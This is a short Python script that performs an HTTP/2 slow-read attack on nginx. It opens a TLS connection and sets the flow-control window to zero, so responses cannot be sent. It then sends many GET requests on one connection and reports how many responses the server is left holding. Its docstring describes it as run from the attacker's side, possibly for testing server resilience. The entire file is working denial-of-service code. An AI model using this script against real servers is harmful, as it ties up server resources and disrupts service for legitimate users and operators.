"""Sends requests over HTTP/2 and gives nginx no flow-control window for the answers (slow read).

The program runs on the attacker as `python3 -c`. Arguments: the address, the host's name, the number of simultaneous
requests on one connection, and the number of seconds. Prints how many answers nginx still holds at the end.
"""

import ssl
import sys
import time
from socket import create_connection
from struct import pack, unpack

DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
NO_WINDOW = pack("!HI", 4, 0)


def main(address: str, name: str, many: str, seconds: str) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    wire = context.wrap_socket(create_connection((address, 443), timeout=5), server_hostname=name)
    wire.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, NO_WINDOW))
    # These bytes encode GET, https, / and the host's name (RFC 7541).
    asked = b"\x82\x87\x84\x01" + bytes([len(name)]) + name.encode()
    streams = range(1, 2 * int(many), 2)
    wire.sendall(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, asked) for stream in streams))

    unanswered, held, came = set(streams), set(), b""
    until = time.monotonic() + float(seconds)
    while (left := until - time.monotonic()) > 0:
        wire.settimeout(left)
        try:
            more = wire.recv(65536)
        except TimeoutError:
            break
        came += more
        if not more:
            sys.exit("nginx has closed the connection")
        while len(came) >= 9 and len(came) >= (end := 9 + int.from_bytes(came[:3])):
            kind, flags, stream = unpack("!BBI", came[3:9])
            came = came[end:]
            if kind == HEADERS:
                unanswered.discard(stream)
                held.add(stream)
            if kind == RST_STREAM or (kind in {DATA, HEADERS} and flags & END_STREAM):
                held.discard(stream)
    if unanswered:
        sys.exit(f"{len(unanswered)} requests were not answered at all")
    print(len(held))


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """Build a frame (RFC 9113, 4.1)."""
    return len(content).to_bytes(3) + pack("!BBI", kind, flags, stream) + content


main(*sys.argv[1:])
